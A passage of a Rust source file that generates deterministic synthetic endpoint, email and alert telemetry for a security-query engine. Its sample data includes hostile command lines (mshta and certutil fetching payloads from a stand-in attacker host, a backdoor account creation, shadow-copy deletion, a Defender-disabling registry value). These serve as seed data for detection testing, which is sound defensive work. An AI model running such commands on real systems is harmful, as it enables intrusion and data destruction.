//! Deterministic, internally consistent sample events for an estate of devices, users, files,
//! URLs and IPs, spread over the past 30 days.

use chrono::{DateTime, Utc};
use serde_json::{json, Map, Value};

use crate::ingest::rows_to_batch;
use crate::store::{EventStore, StoreError};
use palisade_kql::value::format_datetime;

/// A small deterministic PRNG (SplitMix64).
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A generator from `seed`.
    pub fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x9E37_79B9_7F4A_7C15)
    }
    /// Next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n` (0 when `n` is 0).
    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 {
            0
        } else {
            self.next_u64() % n
        }
    }
    /// True with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }
    /// A random element.
    pub fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len() as u64) as usize]
    }
    fn hex(&mut self, n: usize) -> String {
        let mut s = String::with_capacity(n);
        while s.len() < n {
            s.push_str(&format!("{:016x}", self.next_u64()));
        }
        s.truncate(n);
        s
    }
    fn guid(&mut self) -> String {
        let h = self.hex(32);
        format!(
            "{}-{}-{}-{}-{}",
            &h[..8],
            &h[8..12],
            &h[12..16],
            &h[16..20],
            &h[20..]
        )
    }
}

/// A device of the estate.
#[derive(Debug, Clone)]
pub struct EstateDevice {
    /// FQDN-style name.
    pub name: String,
    /// 40 hex characters.
    pub device_id: String,
    /// `Windows10`, `Windows11`, `WindowsServer2019`, `Linux`, `macOS`.
    pub os_platform: String,
    /// Private IPv4.
    pub ip: String,
}

/// A user of the estate.
#[derive(Debug, Clone)]
pub struct EstateUser {
    /// sAMAccountName.
    pub account_name: String,
    /// NetBIOS domain.
    pub domain: String,
    /// UPN.
    pub upn: String,
    /// Windows SID.
    pub sid: String,
    /// Entra object id.
    pub object_id: String,
}

/// A file (executable or document) of the estate.
#[derive(Debug, Clone)]
pub struct EstateFile {
    /// File name.
    pub name: String,
    /// SHA-1 (40 hex).
    pub sha1: String,
    /// SHA-256 (64 hex).
    pub sha256: String,
    /// MD5 (32 hex).
    pub md5: String,
    /// Folder, no trailing backslash.
    pub folder: String,
}

/// The entities events refer to.
#[derive(Debug, Clone)]
pub struct Estate {
    /// Devices.
    pub devices: Vec<EstateDevice>,
    /// Users.
    pub users: Vec<EstateUser>,
    /// URLs contacted and mailed.
    pub urls: Vec<String>,
    /// Public remote IPs.
    pub remote_ips: Vec<String>,
    /// Files.
    pub files: Vec<EstateFile>,
}

const BINARIES: &[(&str, &str)] = &[
    ("explorer.exe", "C:\\Windows"),
    ("cmd.exe", "C:\\Windows\\System32"),
    (
        "powershell.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    ),
    ("svchost.exe", "C:\\Windows\\System32"),
    ("services.exe", "C:\\Windows\\System32"),
    (
        "winword.exe",
        "C:\\Program Files\\Microsoft Office\\root\\Office16",
    ),
    (
        "excel.exe",
        "C:\\Program Files\\Microsoft Office\\root\\Office16",
    ),
    (
        "outlook.exe",
        "C:\\Program Files\\Microsoft Office\\root\\Office16",
    ),
    (
        "chrome.exe",
        "C:\\Program Files\\Google\\Chrome\\Application",
    ),
    (
        "msedge.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
    ),
    ("mshta.exe", "C:\\Windows\\System32"),
    ("certutil.exe", "C:\\Windows\\System32"),
    ("net.exe", "C:\\Windows\\System32"),
    ("vssadmin.exe", "C:\\Windows\\System32"),
    ("rundll32.exe", "C:\\Windows\\System32"),
    ("whoami.exe", "C:\\Windows\\System32"),
    ("conhost.exe", "C:\\Windows\\System32"),
    ("schtasks.exe", "C:\\Windows\\System32"),
    ("reg.exe", "C:\\Windows\\System32"),
    (
        "teams.exe",
        "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams",
    ),
    (
        "MsMpEng.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2301.6-0",
    ),
    ("wmic.exe", "C:\\Windows\\System32\\wbem"),
];

impl Default for Estate {
    /// [`Estate::sample`] with seed 0.
    fn default() -> Self {
        Estate::sample(0)
    }
}

impl Estate {
    /// A deterministic sample estate: 25 devices, 40 users, 40 files, 30 URLs, 40 IPs.
    pub fn sample(seed: u64) -> Estate {
        let mut r = Rng::new(seed);
        let platforms = [
            "Windows10",
            "Windows11",
            "Windows11",
            "WindowsServer2019",
            "Linux",
            "macOS",
        ];
        let devices = (0..25)
            .map(|i| {
                let kind = if i < 4 { "srv" } else { "wks" };
                EstateDevice {
                    name: format!("{kind}-{:03}.contoso.local", i + 1),
                    device_id: r.hex(40),
                    os_platform: if i < 4 {
                        "WindowsServer2019".into()
                    } else {
                        r.pick(&platforms).to_string()
                    },
                    ip: format!("10.0.{}.{}", i / 200 + 1, 10 + i),
                }
            })
            .collect();
        let first = [
            "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
        ];
        let last = ["smith", "jones", "brown", "lee"];
        let users = (0..40)
            .map(|i| {
                let name = format!(
                    "{}.{}",
                    first[i % first.len()],
                    last[i / first.len() % last.len()]
                );
                EstateUser {
                    upn: format!("{name}@contoso.com"),
                    account_name: name,
                    domain: "CONTOSO".into(),
                    sid: format!(
                        "S-1-5-21-{}-{}-{}-{}",
                        1_000_000 + r.below(9_000_000),
                        1_000_000 + r.below(9_000_000),
                        1_000_000 + r.below(9_000_000),
                        1100 + i
                    ),
                    object_id: r.guid(),
                }
            })
            .collect();
        let mut files: Vec<EstateFile> = BINARIES
            .iter()
            .map(|(n, f)| EstateFile {
                name: n.to_string(),
                sha1: r.hex(40),
                sha256: r.hex(64),
                md5: r.hex(32),
                folder: f.to_string(),
            })
            .collect();
        for (n, f) in [
            ("invoice_2291.docm", "C:\\Users\\Public\\Downloads"),
            ("payload.ps1", "C:\\Users\\Public"),
            ("update.dll", "C:\\ProgramData"),
            ("report.xlsx", "C:\\Users\\Public\\Documents"),
            ("setup.exe", "C:\\Users\\Public\\Downloads"),
            ("notes.txt", "C:\\Users\\Public\\Documents"),
        ] {
            files.push(EstateFile {
                name: n.into(),
                sha1: r.hex(40),
                sha256: r.hex(64),
                md5: r.hex(32),
                folder: f.into(),
            });
        }
        let domains = [
            "login.microsoftonline.com",
            "www.office.com",
            "github.com",
            "update.contoso.com",
            "cdn.example.net",
            "pastebin.com",
            "evil-updates.xyz",
            "files.example.org",
            "teams.microsoft.com",
            "outlook.office365.com",
        ];
        let urls = (0..30)
            .map(|i| {
                format!(
                    "https://{}/{}",
                    domains[i % domains.len()],
                    ["", "index.html", "download/a.bin", "api/v1/ping"][i / 10 % 4]
                )
            })
            .collect();
        let remote_ips = (0..40)
            .map(|_| {
                format!(
                    "{}.{}.{}.{}",
                    20 + r.below(180),
                    r.below(256),
                    r.below(256),
                    1 + r.below(254)
                )
            })
            .collect();
        Estate {
            devices,
            users,
            urls,
            remote_ips,
            files,
        }
    }

    fn file(&self, name: &str) -> &EstateFile {
        self.files
            .iter()
            .find(|f| f.name == name)
            .unwrap_or(&self.files[0])
    }
}

fn obj(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        _ => Map::new(),
    }
}

struct Gen<'a> {
    e: &'a Estate,
    r: Rng,
    now: i64,
    report: i64,
}

impl Gen<'_> {
    fn ts(&mut self) -> i64 {
        // Uniform over the last 29.5 days, 100 ns precision.
        let span: i64 = 29 * 86_400 * 1_000_000_000 + 43_200 * 1_000_000_000;
        let t = self.now - self.r.below(span as u64) as i64;
        t - t.rem_euclid(100)
    }
    fn dev(&mut self) -> EstateDevice {
        self.r.pick(&self.e.devices).clone()
    }
    fn user(&mut self) -> EstateUser {
        self.r.pick(&self.e.users).clone()
    }
    fn rid(&mut self) -> i64 {
        self.report += 1;
        self.report
    }
    /// Initiating-process columns for binary `name`.
    fn initiating(
        &mut self,
        m: &mut Map<String, Value>,
        name: &str,
        cmd: &str,
        parent: &str,
        user: &EstateUser,
        t: i64,
    ) {
        let f = self.e.file(name).clone();
        let pid = 1000 + self.r.below(30_000) as i64;
        for (k, v) in [
            ("InitiatingProcessFileName", json!(f.name)),
            (
                "InitiatingProcessFolderPath",
                json!(format!("{}\\{}", f.folder, f.name).to_lowercase()),
            ),
            ("InitiatingProcessSHA1", json!(f.sha1)),
            ("InitiatingProcessSHA256", json!(f.sha256)),
            ("InitiatingProcessMD5", json!(f.md5)),
            ("InitiatingProcessCommandLine", json!(cmd)),
            ("InitiatingProcessId", json!(pid)),
            (
                "InitiatingProcessCreationTime",
                json!(format_datetime(t - 60_000_000_000)),
            ),
            ("InitiatingProcessParentFileName", json!(parent)),
            ("InitiatingProcessParentId", json!(pid - 7)),
            (
                "InitiatingProcessParentCreationTime",
                json!(format_datetime(t - 3_600_000_000_000)),
            ),
            (
                "InitiatingProcessAccountDomain",
                json!(user.domain.to_lowercase()),
            ),
            ("InitiatingProcessAccountName", json!(user.account_name)),
            ("InitiatingProcessAccountSid", json!(user.sid)),
            ("InitiatingProcessAccountUpn", json!(user.upn)),
            ("InitiatingProcessAccountObjectId", json!(user.object_id)),
            (
                "InitiatingProcessIntegrityLevel",
                json!(if name == "services.exe" {
                    "System"
                } else {
                    "Medium"
                }),
            ),
            (
                "InitiatingProcessTokenElevation",
                json!("TokenElevationTypeDefault"),
            ),
            (
                "InitiatingProcessFileSize",
                json!(50_000 + self.r.below(5_000_000) as i64),
            ),
            (
                "InitiatingProcessVersionInfoCompanyName",
                json!("Microsoft Corporation"),
            ),
            (
                "InitiatingProcessVersionInfoOriginalFileName",
                json!(f.name),
            ),
        ] {
            m.insert(k.into(), v);
        }
    }
    fn device_cols(&mut self, m: &mut Map<String, Value>, d: &EstateDevice, t: i64) {
        m.insert("Timestamp".into(), json!(format_datetime(t)));
        m.insert("DeviceId".into(), json!(d.device_id));
        m.insert("DeviceName".into(), json!(d.name));
        let rid = self.rid();
        m.insert("ReportId".into(), json!(rid));
    }

    fn process(&mut self) -> Map<String, Value> {
        // (parent, child, command line, initiating command line)
        const CHAINS: &[(&str, &str, &str, &str)] = &[
            ("explorer.exe", "cmd.exe", "cmd.exe /c whoami /all", "C:\\Windows\\Explorer.EXE"),
            ("cmd.exe", "whoami.exe", "whoami /all", "cmd.exe /c whoami /all"),
            ("services.exe", "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\system32\\services.exe"),
            ("explorer.exe", "chrome.exe", "\"chrome.exe\" --type=renderer", "C:\\Windows\\Explorer.EXE"),
            ("explorer.exe", "winword.exe", "\"WINWORD.EXE\" /n \"C:\\Users\\Public\\Documents\\report.docx\"", "C:\\Windows\\Explorer.EXE"),
            ("explorer.exe", "teams.exe", "Teams.exe --processStart", "C:\\Windows\\Explorer.EXE"),
            ("powershell.exe", "conhost.exe", "conhost.exe 0xffffffff -ForceV1", "powershell.exe -NoProfile"),
            ("svchost.exe", "schtasks.exe", "schtasks.exe /query /fo LIST", "svchost.exe -k netsvcs"),
            ("cmd.exe", "reg.exe", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "cmd.exe /c reg query"),
            ("explorer.exe", "powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1", "C:\\Windows\\Explorer.EXE"),
        ];
        const SUSPICIOUS: &[(&str, &str, &str, &str)] = &[
            ("winword.exe", "powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "\"WINWORD.EXE\" /n invoice_2291.docm"),
            ("explorer.exe", "mshta.exe", "mshta.exe http://evil-updates.xyz/payload.hta", "C:\\Windows\\Explorer.EXE"),
            ("cmd.exe", "certutil.exe", "certutil.exe -urlcache -split -f http://evil-updates.xyz/update.dll C:\\ProgramData\\update.dll", "cmd.exe /c certutil"),
            ("cmd.exe", "net.exe", "net user backdoor P@ssw0rd! /add", "cmd.exe /c net user backdoor /add"),
            ("cmd.exe", "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe /c vssadmin delete shadows /all /quiet"),
            ("excel.exe", "rundll32.exe", "rundll32.exe C:\\ProgramData\\update.dll,DllRegisterServer", "\"EXCEL.EXE\" report.xlsx"),
            ("cmd.exe", "wmic.exe", "wmic shadowcopy delete", "cmd.exe /c wmic shadowcopy delete"),
        ];
        let chain = if self.r.chance(0.04) {
            *self.r.pick(SUSPICIOUS)
        } else {
            *self.r.pick(CHAINS)
        };
        let (parent, child, cmd, icmd) = chain;
        let d = self.dev();
        let u = self.user();
        let t = self.ts();
        let f = self.e.file(child).clone();
        let mut m = obj(json!({
            "ActionType": "ProcessCreated",
            "FileName": f.name,
            "FolderPath": format!("{}\\{}", f.folder, f.name),
            "SHA1": f.sha1, "SHA256": f.sha256, "MD5": f.md5,
            "FileSize": 20_000 + self.r.below(3_000_000) as i64,
            "ProcessId": 2000 + self.r.below(60_000) as i64,
            "ProcessCommandLine": cmd,
            "ProcessIntegrityLevel": "Medium",
            "ProcessTokenElevation": "TokenElevationTypeDefault",
            "ProcessCreationTime": format_datetime(t),
            "AccountDomain": u.domain.to_lowercase(),
            "AccountName": u.account_name,
            "AccountSid": u.sid,
            "AccountUpn": u.upn,
            "AccountObjectId": u.object_id,
            "LogonId": 100_000 + self.r.below(900_000) as i64,
            "ProcessVersionInfoCompanyName": "Microsoft Corporation",
            "ProcessVersionInfoOriginalFileName": f.name,
            "ProcessVersionInfoFileDescription": f.name.trim_end_matches(".exe"),
            "InitiatingProcessSignerType": "OsVendor",
            "InitiatingProcessSignatureStatus": "Valid",
            "AdditionalFields": "{}",
            "IsInitiatingProcessRemoteSession": false,
            "IsProcessRemoteSession": false,
        }));
        self.device_cols(&mut m, &d, t);
        let grandparent = if parent == "explorer.exe" {
            "userinit.exe"
        } else {
            "explorer.exe"
        };
        self.initiating(&mut m, parent, icmd, grandparent, &u, t);
        m
    }

    fn network(&mut self) -> Map<String, Value> {
        let d = self.dev();
        let u = self.user();
        let t = self.ts();
        let (port, proc_) = *self.r.pick(&[
            (443, "chrome.exe"),
            (443, "msedge.exe"),
            (443, "teams.exe"),
            (80, "chrome.exe"),
            (53, "svchost.exe"),
            (445, "svchost.exe"),
            (3389, "svchost.exe"),
            (443, "powershell.exe"),
            (8080, "powershell.exe"),
            (4444, "rundll32.exe"),
        ]);
        let url = self.r.pick(&self.e.urls).clone();
        let host = url
            .trim_start_matches("https://")
            .split('/')
            .next()
            .unwrap_or("")
            .to_string();
        let ip = self.r.pick(&self.e.remote_ips).clone();
        let action = *self.r.pick(&[
            "ConnectionSuccess",
            "ConnectionSuccess",
            "ConnectionSuccess",
            "ConnectionFailed",
            "InboundConnectionAccepted",
        ]);
        let mut m = obj(json!({
            "ActionType": action,
            "RemoteIP": ip,
            "RemotePort": port,
            "RemoteUrl": if port == 443 || port == 80 || port == 8080 { host } else { String::new() },
            "LocalIP": d.ip,
            "LocalPort": 49152 + self.r.below(16_000) as i64,
            "Protocol": if port == 53 { "Udp" } else { "Tcp" },
            "LocalIPType": "Private",
            "RemoteIPType": "Public",
            "IsInitiatingProcessRemoteSession": false,
        }));
        self.device_cols(&mut m, &d, t);
        let cmd = proc_.to_string();
        self.initiating(&mut m, proc_, &cmd, "explorer.exe", &u, t);
        m
    }

    fn file_event(&mut self) -> Map<String, Value> {
        let d = self.dev();
        let u = self.user();
        let t = self.ts();
        let f = self.r.pick(&self.e.files).clone();
        let action = *self.r.pick(&[
            "FileCreated",
            "FileCreated",
            "FileModified",
            "FileRenamed",
            "FileDeleted",
        ]);
        let origin = if f.folder.contains("Downloads") {
            self.r.pick(&self.e.urls).clone()
        } else {
            String::new()
        };
        let mut m = obj(json!({
            "ActionType": action,
            "FileName": f.name,
            "FolderPath": format!("{}\\{}", f.folder, f.name),
            "SHA1": f.sha1, "SHA256": f.sha256, "MD5": f.md5,
            "FileSize": 1_000 + self.r.below(10_000_000) as i64,
            "FileOriginUrl": origin,
            "IsAzureInfoProtectionApplied": false,
        }));
        self.device_cols(&mut m, &d, t);
        let p = *self.r.pick(&[
            "explorer.exe",
            "chrome.exe",
            "outlook.exe",
            "powershell.exe",
            "winword.exe",
        ]);
        self.initiating(&mut m, p, p, "explorer.exe", &u, t);
        m
    }

    fn logon(&mut self) -> Map<String, Value> {
        let d = self.dev();
        let u = self.user();
        let t = self.ts();
        let failed = self.r.chance(0.15);
        let ltype = *self.r.pick(&[
            "Interactive",
            "Network",
            "RemoteInteractive",
            "Unlock",
            "Batch",
            "Service",
        ]);
        let mut m = obj(json!({
            "ActionType": if failed { "LogonFailed" } else { "LogonSuccess" },
            "LogonType": ltype,
            "AccountDomain": u.domain.to_lowercase(),
            "AccountName": u.account_name,
            "AccountSid": u.sid,
            "Protocol": *self.r.pick(&["Kerberos", "NTLM", "Negotiate"]),
            "FailureReason": if failed { "InvalidUserNameOrPassword" } else { "" },
            "IsLocalAdmin": self.r.chance(0.2),
            "LogonId": 100_000 + self.r.below(900_000) as i64,
            "RemoteIP": if ltype == "Network" || ltype == "RemoteInteractive" { self.r.pick(&self.e.devices).ip.clone() } else { String::new() },
            "RemoteIPType": if ltype == "Network" { "Private" } else { "" },
            "RemotePort": if ltype == "RemoteInteractive" { 3389 } else { 0 },
            "IsInitiatingProcessRemoteSession": false,
        }));
        self.device_cols(&mut m, &d, t);
        self.initiating(
            &mut m,
            "svchost.exe",
            "svchost.exe -k netsvcs",
            "services.exe",
            &u,
            t,
        );
        m
    }

    fn registry(&mut self) -> Map<String, Value> {
        let d = self.dev();
        let u = self.user();
        let t = self.ts();
        let (key, name, data) = *self.r.pick(&[
            (
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                "OneDrive",
                "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe /background",
            ),
            (
                "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "Updater",
                "rundll32.exe C:\\ProgramData\\update.dll,DllRegisterServer",
            ),
            (
                "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\WinDefend",
                "Start",
                "2",
            ),
            (
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
                "DisableAntiSpyware",
                "1",
            ),
        ]);
        let mut m = obj(json!({
            "ActionType": *self.r.pick(&["RegistryValueSet", "RegistryValueSet", "RegistryKeyCreated", "RegistryValueDeleted"]),
            "RegistryKey": key, "RegistryValueName": name, "RegistryValueData": data,
            "RegistryValueType": "String",
        }));
        self.device_cols(&mut m, &d, t);
        let p = *self
            .r
            .pick(&["reg.exe", "powershell.exe", "svchost.exe", "MsMpEng.exe"]);
        self.initiating(&mut m, p, p, "cmd.exe", &u, t);
        m
    }

    fn image_load(&mut self) -> Map<String, Value> {
        let d = self.dev();
        let u = self.user();
        let t = self.ts();
        let (dll, folder) = *self.r.pick(&[
            ("kernel32.dll", "C:\\Windows\\System32"),
            ("ntdll.dll", "C:\\Windows\\System32"),
            ("amsi.dll", "C:\\Windows\\System32"),
            (
                "clr.dll",
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319",
            ),
            ("System.Management.Automation.dll", "C:\\Windows\\assembly"),
            ("update.dll", "C:\\ProgramData"),
        ]);
        let mut m = obj(json!({
            "ActionType": "ImageLoaded",
            "FileName": dll,
            "FolderPath": format!("{folder}\\{dll}"),
            "SHA1": self.r.hex(40), "SHA256": self.r.hex(64), "MD5": self.r.hex(32),
            "FileSize": 100_000 + self.r.below(2_000_000) as i64,
        }));
        self.device_cols(&mut m, &d, t);
        let p = *self.r.pick(&[
            "powershell.exe",
            "rundll32.exe",
            "svchost.exe",
            "winword.exe",
        ]);
        self.initiating(&mut m, p, p, "explorer.exe", &u, t);
        m
    }

    fn device_event(&mut self) -> Map<String, Value> {
        let d = self.dev();
        let u = self.user();
        let t = self.ts();
        let action = *self.r.pick(&[
            "AntivirusDetection",
            "PowerShellCommand",
            "DnsQueryResponse",
            "ScheduledTaskCreated",
            "UserAccountCreated",
            "NamedPipeEvent",
            "ProcessCreatedUsingWmiQuery",
            "SmartScreenUrlWarning",
        ]);
        let af = match action {
            "PowerShellCommand" => {
                json!({"Command": *self.r.pick(&["Invoke-WebRequest", "Get-Process", "Invoke-Expression", "Set-MpPreference"])})
            }
            "DnsQueryResponse" => {
                json!({"DnsQueryString": self.r.pick(&self.e.urls).trim_start_matches("https://").split('/').next().unwrap_or("")})
            }
            "AntivirusDetection" => {
                json!({"ThreatName": "Trojan:Win32/Wacatac.B!ml", "WasRemediated": true})
            }
            "ScheduledTaskCreated" => {
                json!({"TaskName": "\\Microsoft\\Windows\\Updater", "TaskContent": "rundll32.exe update.dll"})
            }
            _ => json!({}),
        };
        let mut m = obj(json!({
            "ActionType": action,
            "AccountDomain": u.domain.to_lowercase(),
            "AccountName": u.account_name,
            "AccountSid": u.sid,
            "AdditionalFields": af.to_string(),
            "FileName": if action == "AntivirusDetection" { "payload.ps1" } else { "" },
            "RemoteUrl": if action == "SmartScreenUrlWarning" { self.r.pick(&self.e.urls).clone() } else { String::new() },
        }));
        self.device_cols(&mut m, &d, t);
        self.initiating(
            &mut m,
            "powershell.exe",
            "powershell.exe -NoProfile",
            "explorer.exe",
            &u,
            t,
        );
        m
    }

    fn email(&mut self, out: &mut Vec<(&'static str, Map<String, Value>)>) {
        let t = self.ts();
        let u = self.user();
        let mid = self.r.guid();
        let phish = self.r.chance(0.1);
        let sender = if phish {
            "billing@evil-updates.xyz"
        } else {
            *self.r.pick(&[
                "news@github.com",
                "noreply@office.com",
                "hr@contoso.com",
                "partner@fabrikam.com",
            ])
        };
        let domain = sender.split('@').nth(1).unwrap_or("").to_string();
        let attachments = if phish || self.r.chance(0.2) { 1 } else { 0 };
        let urls = if phish || self.r.chance(0.5) { 1 } else { 0 };
        out.push(("EmailEvents", obj(json!({
            "Timestamp": format_datetime(t),
            "NetworkMessageId": mid,
            "InternetMessageId": format!("<{}@{}>", self.r.hex(16), domain),
            "SenderMailFromAddress": sender, "SenderFromAddress": sender,
            "SenderDisplayName": sender.split('@').next().unwrap_or(""),
            "SenderMailFromDomain": domain, "SenderFromDomain": domain,
            "SenderIPv4": self.r.pick(&self.e.remote_ips).clone(),
            "RecipientEmailAddress": u.upn, "RecipientObjectId": u.object_id,
            "Subject": if phish { "Invoice overdue - action required" } else { *self.r.pick(&["Weekly update", "Meeting notes", "Your build succeeded", "Welcome"]) },
            "EmailDirection": if sender.ends_with("contoso.com") { "Intra-org" } else { "Inbound" },
            "DeliveryAction": if phish && self.r.chance(0.5) { "Blocked" } else { "Delivered" },
            "DeliveryLocation": "Inbox/folder",
            "ThreatTypes": if phish { "Phish" } else { "" },
            "DetectionMethods": if phish { "{\"Phish\":[\"URL detonation\"]}" } else { "" },
            "AttachmentCount": attachments, "UrlCount": urls,
            "EmailLanguage": "en",
            "AuthenticationDetails": "{\"SPF\":\"pass\",\"DKIM\":\"pass\",\"DMARC\":\"pass\"}",
            "ReportId": format!("{}-1", mid),
        }))));
        if attachments > 0 {
            let f = if phish {
                self.e.file("invoice_2291.docm").clone()
            } else {
                self.e.file("report.xlsx").clone()
            };
            out.push(("EmailAttachmentInfo", obj(json!({
                "Timestamp": format_datetime(t), "NetworkMessageId": mid,
                "SenderFromAddress": sender, "RecipientEmailAddress": u.upn, "RecipientObjectId": u.object_id,
                "FileName": f.name, "FileType": f.name.rsplit('.').next().unwrap_or(""),
                "SHA256": f.sha256, "FileSize": 20_000 + self.r.below(500_000) as i64,
                "ThreatTypes": if phish { "Malware" } else { "" },
                "ReportId": format!("{}-2", mid),
            }))));
        }
        if urls > 0 {
            let url = if phish {
                "http://evil-updates.xyz/payload.hta".to_string()
            } else {
                self.r.pick(&self.e.urls).clone()
            };
            let host = url
                .split("://")
                .nth(1)
                .and_then(|h| h.split('/').next())
                .unwrap_or("")
                .to_string();
            out.push((
                "EmailUrlInfo",
                obj(json!({
                    "Timestamp": format_datetime(t), "NetworkMessageId": mid,
                    "Url": url, "UrlDomain": host, "UrlLocation": "Body",
                    "ReportId": format!("{}-3", mid),
                })),
            ));
        }
    }

    fn identity_logon(&mut self) -> Map<String, Value> {
        let t = self.ts();
        let u = self.user();
        let d = self.dev();
        let failed = self.r.chance(0.1);
        let rid = self.r.guid();
        obj(json!({
            "Timestamp": format_datetime(t),
            "ActionType": if failed { "LogonFailed" } else { "LogonSuccess" },
            "Application": *self.r.pick(&["Active Directory", "Microsoft 365", "Azure Portal"]),
            "LogonType": *self.r.pick(&["Resource access", "Credentials validation", "Interactive"]),
            "Protocol": *self.r.pick(&["Kerberos", "Ntlm", "Ldap"]),
            "FailureReason": if failed { "WrongPassword" } else { "" },
            "AccountName": u.account_name, "AccountDomain": "contoso.local", "AccountUpn": u.upn,
            "AccountSid": u.sid, "AccountObjectId": u.object_id,
            "AccountDisplayName": u.account_name.replace('.', " "),
            "DeviceName": d.name, "DeviceType": "Desktop", "OSPlatform": d.os_platform,
            "IPAddress": d.ip, "Port": 49152 + self.r.below(10_000) as i64,
            "DestinationDeviceName": "dc01.contoso.local", "DestinationIPAddress": "10.0.0.2", "DestinationPort": 88,
            "Location": "US", "ReportId": rid,
            "AdditionalFields": {"Spns": "krbtgt/CONTOSO.LOCAL", "Count": 1 + self.r.below(3)},
        }))
    }

    fn cloud_app(&mut self) -> Map<String, Value> {
        let t = self.ts();
        let u = self.user();
        let action = *self.r.pick(&[
            "FileDownloaded",
            "FileAccessed",
            "MailItemsAccessed",
            "Add member to role.",
            "New-InboxRule",
            "FileUploaded",
        ]);
        let rid = self.r.guid();
        obj(json!({
            "Timestamp": format_datetime(t),
            "ActionType": action,
            "Application": *self.r.pick(&["Microsoft SharePoint Online", "Microsoft Exchange Online", "Microsoft Teams", "Microsoft OneDrive for Business"]),
            "ApplicationId": *self.r.pick(&[20892, 20893, 28375, 15600]),
            "AccountObjectId": u.object_id, "AccountId": u.object_id,
            "AccountDisplayName": u.account_name.replace('.', " "),
            "IsAdminOperation": action == "Add member to role.",
            "DeviceType": "Desktop", "OSPlatform": "Windows10",
            "IPAddress": self.r.pick(&self.e.remote_ips).clone(),
            "IsAnonymousProxy": false, "CountryCode": *self.r.pick(&["US", "US", "DE", "GB"]),
            "City": "Seattle", "Isp": "Contoso ISP", "UserAgent": "Mozilla/5.0",
            "ActivityType": "Run",
            "ActivityObjects": [{"Type": "User", "Name": u.upn}],
            "ObjectName": u.upn, "ObjectType": "User",
            "ReportId": rid, "AccountType": "Regular",
            "IsExternalUser": false, "IsImpersonated": false,
            "RawEventData": {"Operation": action, "UserId": u.upn, "ClientIP": "203.0.113.5"},
        }))
    }

    fn alert(&mut self, out: &mut Vec<(&'static str, Map<String, Value>)>) {
        let t = self.ts();
        let d = self.dev();
        let u = self.user();
        let id = format!("da{}", self.r.hex(30));
        let (title, cat, sev, tech) = *self.r.pick(&[
            (
                "Suspicious PowerShell command line",
                "Execution",
                "Medium",
                "[\"T1059.001\"]",
            ),
            ("Shadow copy deletion", "Impact", "High", "[\"T1490\"]"),
            (
                "Suspicious file downloaded by certutil",
                "CommandAndControl",
                "Medium",
                "[\"T1105\"]",
            ),
            (
                "New local admin account created",
                "Persistence",
                "High",
                "[\"T1136.001\"]",
            ),
            (
                "Phishing email delivered",
                "InitialAccess",
                "Low",
                "[\"T1566.001\"]",
            ),
        ]);
        out.push((
            "AlertInfo",
            obj(json!({
                "Timestamp": format_datetime(t), "AlertId": id, "Title": title, "Category": cat,
                "Severity": sev, "ServiceSource": "Microsoft Defender for Endpoint",
                "DetectionSource": "EDR", "AttackTechniques": tech,
            })),
        ));
        let f = self.r.pick(&self.e.files).clone();
        for (etype, role) in [
            ("Machine", "Impacted"),
            ("User", "Impacted"),
            ("File", "Related"),
        ] {
            out.push(("AlertEvidence", obj(json!({
                "Timestamp": format_datetime(t), "AlertId": id, "Title": title, "Categories": format!("[\"{cat}\"]"),
                "AttackTechniques": tech, "ServiceSource": "Microsoft Defender for Endpoint",
                "DetectionSource": "EDR", "EntityType": etype, "EvidenceRole": role,
                "DeviceId": d.device_id, "DeviceName": d.name, "Severity": sev,
                "AccountName": if etype == "User" { u.account_name.clone() } else { String::new() },
                "AccountSid": if etype == "User" { u.sid.clone() } else { String::new() },
                "AccountObjectId": if etype == "User" { u.object_id.clone() } else { String::new() },
                "FileName": if etype == "File" { f.name.clone() } else { String::new() },
                "SHA1": if etype == "File" { f.sha1.clone() } else { String::new() },
                "SHA256": if etype == "File" { f.sha256.clone() } else { String::new() },
                "FolderPath": if etype == "File" { f.folder.clone() } else { String::new() },
                "AdditionalFields": "{}",
            }))));
        }
    }

    fn device_info(
        &mut self,
        d: &EstateDevice,
        t: i64,
        out: &mut Vec<(&'static str, Map<String, Value>)>,
    ) {
        let u = self.r.pick(&self.e.users).clone();
        let rid = self.rid();
        out.push(("DeviceInfo", obj(json!({
            "Timestamp": format_datetime(t), "DeviceId": d.device_id, "DeviceName": d.name,
            "ClientVersion": "10.8210.22621.1016", "PublicIP": "203.0.113.10",
            "OSArchitecture": "64-bit", "OSPlatform": d.os_platform,
